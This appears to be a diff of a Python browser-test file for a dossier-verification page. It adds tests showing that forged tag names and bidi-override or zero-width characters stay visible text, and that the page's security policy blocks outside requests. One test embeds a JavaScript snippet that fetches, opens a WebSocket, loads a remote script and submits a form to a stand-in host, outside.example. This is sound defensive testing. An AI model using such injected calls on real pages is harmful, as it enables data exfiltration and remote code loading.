@@ -19,6 +19,8 @@ from borderlink.custody.domain.acts import Signer
 from borderlink.custody.domain.packs import UN
 from borderlink.custody.domain.schema import KEYS_CASE, Kind
 from borderlink.dossiers.domain import archive
+from borderlink.dossiers.domain.material import told_material
+from borderlink.dossiers.domain.openings import Facts, Item
 from borderlink.dossiers.domain.verify import verify_dossier
 from borderlink.foundation import canonical
 from borderlink.foundation.signing import fingerprint
@@ -329,11 +331,96 @@ def test_assistive_technology_finds_nothing_wrong(opened: Opened, name: str) -> 
     assert after.response["violations"] == []
 
 
-def test_nothing_of_a_dossier_becomes_markup(opened: Opened) -> None:
-    """A name that a forger wrote as a tag stays text."""
-    page = opened()
+@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.name)
+def test_what_was_built_to_be_read_in_two_ways_is_read_in_one(opened: Opened, hostile: Hostile) -> None:
+    dossier = hostile.make()
 
-    check(page, FOLDER / "story.zip", anchor())
+    assert judged(opened(), dossier, [anchor()]) == spoken(dossier, [anchor()])
+
+
+def test_nothing_of_a_dossier_becomes_markup_or_turns_the_line(opened: Opened, tmp_path: Path) -> None:
+    """A name that a forger wrote as a tag stays text; what turns the reading order or hides is shown."""
+    page, path = opened(), tmp_path / "named.zip"
+    path.write_bytes(named_to_mislead())
+
+    check(page, path, anchor())
 
     assert page.locator("#result script, #result img, #result iframe").count() == 0
+    text = page.locator("#result").inner_text()
+    assert text.count(TAG) == 3  # the unit, a name, a line of the schedule
+    assert "[U+202E]GZ-CUSTOMS[U+202C][U+200B]" in text
+    assert not set(text) & set("\u202e\u202c\u200b")
     assert "innerHTML" not in verify_html.page()
+
+
+_OUTWARD = """
+async () => {
+  const stopped = new Set();
+  document.addEventListener("securitypolicyviolation", (event) => stopped.add(event.effectiveDirective));
+  const tag = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
+  await fetch("https://outside.example/").catch(() => {});
+  try { new WebSocket("wss://outside.example/"); } catch {}
+  tag("img", { src: "https://outside.example/i.png" });
+  tag("script", { textContent: "window.wasRun = 1" });
+  tag("script", { src: "https://outside.example/s.js" });
+  tag("link", { rel: "stylesheet", href: "https://outside.example/s.css" });
+  tag("iframe", { src: "https://outside.example/" });
+  tag("video", { src: "https://outside.example/v.mp4" });
+  tag("object", { data: "https://outside.example/o" });
+  const button = document.createElement("button");
+  button.setAttribute("onclick", "window.wasRun = 2");
+  document.body.append(button);
+  button.click();
+  const form = document.createElement("form");
+  form.action = "https://outside.example/";
+  document.body.append(form);
+  form.submit();
+  await new Promise((resolve) => { setTimeout(resolve, 300); });
+  return { stopped: [...stopped].sort(), wasRun: window.wasRun ?? 0 };
+}
+"""
+
+
+def test_the_page_may_speak_to_nobody_and_run_nothing_but_its_own(chromium: Browser) -> None:
+    """What a script that got in would try: each is stopped by the page's own policy."""
+    page = chromium.new_page()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url) if is_outside(request.url) else None)
+    page.goto(verify_html.PAGE.as_uri())
+
+    found = page.evaluate(_OUTWARD)
+    page.close()
+
+    assert (asked, found["wasRun"]) == ([], 0)
+    assert found["stopped"] == [
+        "connect-src", "form-action", "frame-src", "img-src", "media-src", "object-src", "script-src-attr",
+        "script-src-elem", "style-src-elem",
+    ]  # fmt: skip
+
+
+def test_the_schedule_is_told_in_the_readers_language_and_what_is_unknown_as_it_stands(
+    opened: Opened, tmp_path: Path
+) -> None:
+    facts: dict[str, Facts] = {
+        "DSC-DECISION": {"stage": "first-instance", "outcome": "CRT-CONVICTED", "decided_on": "2028-01-08"},
+        "DSC-REFERRAL": {"rules": ["typology-tea", "fields-missing"], "versions": ["rules a6f5"]},
+        "DSC-ANALYSIS": {
+            "laboratory": "LAB", "result": "identified", "substance": "SUB-METH-ICE", "purity_ppm": 812_000,
+            "pure_mg": 650, "consumed_mg": 200, "remaining_mg": 800, "method": "GC-MS",
+        },
+        "DSC-FORM": {"form": "cn-weighing"},
+        "DSC-NEWER": {"count": 3},
+        "DSC-WARNING": {"mass_mg": "a newer node writes this"},
+    }  # fmt: skip
+    items = [Item(kind=kind, reference=f"R{at}", facts=told) for at, (kind, told) in enumerate(facts.items())]
+    (tmp_path / "told.zip").write_bytes(story().dossier(disclosure=items))
+    page = opened("vi-VN")
+
+    check(page, tmp_path / "told.zip", anchor())
+
+    rows = page.locator("tr", has_text=re.compile(r"R\d")).all_inner_texts()
+    told = "\n".join(rows[-len(items) :])
+    for words in ("08/01/2028", told_material("DSC-FORM", facts["DSC-FORM"], "", "vi"), "81,2%", "count: 3"):
+        assert words in told
+    assert "mass_mg: a newer node writes this" in told
+    assert not [code for code in ("CRT-", "SUB-METH", "typology-", "cn-weighing") if code in told]
